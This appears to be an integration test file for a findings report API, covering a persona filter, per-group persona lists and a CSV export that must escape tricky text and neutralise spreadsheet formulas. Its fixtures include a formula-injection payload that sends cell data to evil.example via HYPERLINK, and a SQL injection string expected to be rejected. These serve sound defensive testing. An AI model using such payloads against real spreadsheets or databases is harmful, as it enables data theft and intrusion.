import { parse } from 'csv-parse/sync';
import { ReportsController } from '../../src/reports/reports.controller.js';
import { FINDINGS_CSV_COLUMNS } from '../../src/reports/findings-csv.js';
import { bootTestApp } from '../support/test-app.js';
import type { TestApp } from '../support/test-app.js';
import { http } from '../support/http.js';
import { createAdmin } from '../support/factories.js';
import type { TestUser } from '../support/factories.js';
import { createPersona } from '../support/personas.js';
import { insertAction, insertTick } from '../support/persona-rows.js';
import { underLease } from '../support/leases.js';

/*
 * The findings report's persona filter, the personas each group names, and its CSV export. Findings
 * go in through the personas internal API (service key) and are then moved into May 2003 with SQL
 * (the API stamps now), far from every other test file's data; ticks and calls are backdated rows
 * (test/support/persona-rows.ts says why). Anchor T = 2003-05-31T00:00Z, window [T − 28 d, T).
 *
 *   todo.list wrong_result   seen by Zoë, adam and Beth (ticks A1, A2, A3)
 *   notes.search contract    seen by Beth only (tick B1): its expected text holds quotes, commas and
 *                            line breaks, its got text a spreadsheet formula
 *   todo.create error        seen by Zoë only (tick C1): got starts with '+', expected with '@'
 */
const T = Date.parse('2003-05-31T00:00:00.000Z');
const M = 60_000;
const D = 24 * 60 * M;
const iso = (ms: number) => new Date(ms).toISOString();
const R = '/api/v1/reports/findings';
const RANGE = `from=${iso(T - 28 * D)}&to=${iso(T)}`;
const TRICKY = 'He said "stop", then, after a pause,\nleft; the list read "a, b"\r\nand ended';
const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")';

interface Group {
  module: string;
  tool: string;
  class: string;
  personas: number;
  seenBy: Array<{ id: string; name: string | null; email: string }>;
  samples: Array<{ tickId: string; seq: number | null; check: string; expected: string; got: string }>;
}

describe(`${ReportsController.name} findings by persona and as CSV`, () => {
  let t: TestApp;
  let admin: TestUser;
  const p: Record<'zoe' | 'adam' | 'beth', { id: string; email: string }> = {} as never;

  const get = (query: string) => http(t.url, 'GET', `${R}?${query}`, { token: admin.accessToken });
  const csvRows = (text: string): string[][] => parse(text, { bom: true });
  const key = (g: Pick<Group, 'tool' | 'class'>) => `${g.tool} ${g.class}`;

  async function tick(personaId: string, startedAt: number, tool: string): Promise<string> {
    const id = await insertTick(t, personaId, {
      startedAt: new Date(startedAt),
      finishedAt: new Date(startedAt + 30 * M),
      toolCalls: 1,
    });
    await insertAction(t, personaId, id, { seq: 1, tool, latencyMs: 20, createdAt: new Date(startedAt + M) });
    return id;
  }

  /** One finding on the tick's call (seq 1), recorded under a lease, then moved to the call's time. */
  async function finding(
    personaId: string,
    tickId: string,
    at: number,
    f: { tool: string; class: string; check: string; expected?: string; got?: string },
  ): Promise<void> {
    const res = await underLease(t, personaId, [tickId], (leaseToken) =>
      http(t.url, 'POST', `/api/v1/personas/internal/${personaId}/findings`, {
        headers: { 'x-service-key': t.config.serviceKey },
        body: {
          leaseToken,
          findings: [
            {
              tickId,
              seq: 1,
              module: f.tool.split('.')[0],
              tool: f.tool,
              class: f.class,
              check: f.check,
              expected: f.expected ?? 'the right answer',
              got: f.got ?? 'another',
              source: 'oracle',
            },
          ],
        },
      }),
    );
    expect(res.status).toBe(200);
    await t.dataSource.query(`UPDATE persona_findings SET created_at = $2 WHERE tick_id = $1`, [
      tickId,
      new Date(at),
    ]);
  }

  beforeAll(async () => {
    t = await bootTestApp();
    admin = await createAdmin(t);
    for (const [k, name] of [
      ['zoe', 'Zoë Export'],
      ['adam', 'adam export'],
      ['beth', 'Beth Export'],
    ] as const) {
      const created = await createPersona(t, { name, moduleMix: { todo: 1 }, timezone: 'UTC' }, admin);
      p[k] = { id: created.userId, email: created.email };
    }
    const list = { tool: 'todo.list', class: 'wrong_result', check: 'read-your-writes.list' };
    for (const [i, who] of (['zoe', 'adam', 'beth'] as const).entries()) {
      const start = T - (10 - i) * D;
      await finding(p[who].id, await tick(p[who].id, start, 'todo.list'), start + M + 1000, list);
    }
    const b1 = T - 5 * D;
    await finding(p.beth.id, await tick(p.beth.id, b1, 'notes.search'), b1 + M + 1000, {
      tool: 'notes.search',
      class: 'contract',
      check: 'filter.limit',
      expected: TRICKY,
      got: FORMULA,
    });
    const c1 = T - 3 * D;
    await finding(p.zoe.id, await tick(p.zoe.id, c1, 'todo.create'), c1 + M + 1000, {
      tool: 'todo.create',
      class: 'error',
      check: 'call.error',
      expected: '@SUM(A1:A9) items',
      got: '+1 then -1',
    });
  });

  afterAll(async () => {
    await t?.close();
  });

  describe('personaId', () => {
    it('should keep only the groups the persona saw, with every persona’s figures', async () => {
      const all = await get(RANGE);
      expect(all.status).toBe(200);
      expect(all.body.personaId).toBeNull();
      expect(all.body.items.map(key)).toEqual([
        'todo.create error',
        'notes.search contract',
        'todo.list wrong_result',
      ]);

      const beth = await get(`${RANGE}&personaId=${p.beth.id}`);
      expect(beth.status).toBe(200);
      expect(beth.body).toMatchObject({ personaId: p.beth.id, total: 2 });
      expect(beth.body.items.map(key)).toEqual(['notes.search contract', 'todo.list wrong_result']);
      // the group stays the group: three personas found it, not only Beth
      const list = beth.body.items.find((g: Group) => g.tool === 'todo.list');
      expect(list).toMatchObject({ personas: 3, count: 3 });

      const zoe = await get(`${RANGE}&personaId=${p.zoe.id}&module=todo`);
      expect(zoe.body.items.map(key)).toEqual(['todo.create error', 'todo.list wrong_result']);
    });

    it('should answer no groups for a persona that saw none', async () => {
      const res = await get(`${RANGE}&personaId=00000000-0000-4000-8000-000000000000`);
      expect(res.status).toBe(200);
      expect(res.body).toMatchObject({ items: [], total: 0 });
    });
  });

  it('should name the personas who saw each group, sorted by name whatever the case', async () => {
    const items: Group[] = (await get(RANGE)).body.items;
    const list = items.find((g) => g.tool === 'todo.list')!;
    expect(list.seenBy).toEqual([
      { id: p.adam.id, name: 'adam export', email: p.adam.email },
      { id: p.beth.id, name: 'Beth Export', email: p.beth.email },
      { id: p.zoe.id, name: 'Zoë Export', email: p.zoe.email },
    ]);
    expect(items.find((g) => g.tool === 'notes.search')!.seenBy).toEqual([
      { id: p.beth.id, name: 'Beth Export', email: p.beth.email },
    ]);
  });

  describe('format=csv', () => {
    it('should export the same groups as the JSON answer, one row per group under a header row', async () => {
      const json = await get(RANGE);
      const res = await get(`${RANGE}&format=csv`);
      expect(res.status).toBe(200);
      expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
      const today = new Date().toISOString().slice(0, 10);
      expect(res.headers.get('content-disposition')).toBe(`attachment; filename="findings-${today}.csv"`);

      const [header, ...rows] = csvRows(res.text);
      expect(header).toEqual([...FINDINGS_CSV_COLUMNS]);
      const col = (row: string[], name: string) => row[header.indexOf(name)];
      expect(rows.map((r) => `${col(r, 'tool')} ${col(r, 'class')}`)).toEqual(json.body.items.map(key));
      for (const [i, g] of (json.body.items as Group[]).entries()) {
        expect(col(rows[i], 'module')).toBe(g.module);
        expect(col(rows[i], 'personas')).toBe(String(g.personas));
        expect(col(rows[i], 'seenBy')).toBe(g.seenBy.map((s) => s.name ?? s.email).join('; '));
        expect(col(rows[i], 'sample1TickId')).toBe(g.samples[0].tickId);
      }
    });

    it('should follow the same filters, sort and page as the view', async () => {
      const query = `${RANGE}&personaId=${p.beth.id}&sort=tool&limit=1&offset=1`;
      const json = await get(query);
      const [, ...rows] = csvRows((await get(`${query}&format=csv`)).text);
      expect(json.body.items.map(key)).toEqual(['todo.list wrong_result']);
      expect(rows.map((r) => `${r[1]} ${r[2]}`)).toEqual(['todo.list wrong_result']);
    });

    it('should carry quotes, commas and line breaks of a finding through a CSV parser unchanged', async () => {
      const [header, ...rows] = csvRows((await get(`${RANGE}&format=csv&module=notes`)).text);
      expect(rows).toHaveLength(1);
      expect(rows[0][header.indexOf('sample1Expected')]).toBe(TRICKY);
    });

    it('should neutralise cells a spreadsheet would run as a formula', async () => {
      const [header, ...rows] = csvRows((await get(`${RANGE}&format=csv`)).text);
      const byTool = (tool: string) => rows.find((r) => r[header.indexOf('tool')] === tool)!;
      const notes = byTool('notes.search');
      expect(notes[header.indexOf('sample1Got')]).toBe(`'${FORMULA}`);
      const create = byTool('todo.create');
      expect(create[header.indexOf('sample1Got')]).toBe("'+1 then -1");
      expect(create[header.indexOf('sample1Expected')]).toBe("'@SUM(A1:A9) items");
      // ordinary cells and numbers are left alone
      expect(create[header.indexOf('count')]).toBe('1');
      expect(create[header.indexOf('sample1Check')]).toBe('call.error');
    });

    it('should answer a header row alone when nothing matches', async () => {
      const res = await get(`${RANGE}&format=csv&module=nothing_here`);
      expect(res.status).toBe(200);
      expect(csvRows(res.text)).toEqual([[...FINDINGS_CSV_COLUMNS]]);
    });
  });

  it('should document personaId, format and seenBy in the OpenAPI description', async () => {
    const docs = (await http(t.url, 'GET', '/api/docs-json')).body;
    const params = docs.paths[R].get.parameters.map((q: { name: string }) => q.name);
    expect(params).toEqual(expect.arrayContaining(['personaId', 'format']));
    expect(Object.keys(docs.paths[R].get.responses['200'].content)).toEqual(
      expect.arrayContaining(['application/json', 'text/csv']),
    );
    expect(docs.components.schemas.FindingGroupDto.properties.seenBy).toMatchObject({ type: 'array' });
    expect(Object.keys(docs.components.schemas.FindingPersonaDto.properties)).toEqual([
      'id',
      'name',
      'email',
    ]);
  });

  it.each([
    ['personaId=42', 'personaId must be a persona user id (uuid)'],
    ["personaId=x' OR 1=1", 'personaId must be a persona user id (uuid)'],
    ['format=xlsx', 'format must be one of json, csv'],
    ['format=', 'format must be one of json, csv'],
  ])('should answer 400 naming the field for %s', async (query, message) => {
    const res = await get(`${RANGE}&${query.replace(/ /g, '%20')}`);
    expect(res.status).toBe(400);
    expect(JSON.stringify(res.body.message)).toContain(message);
  });
});
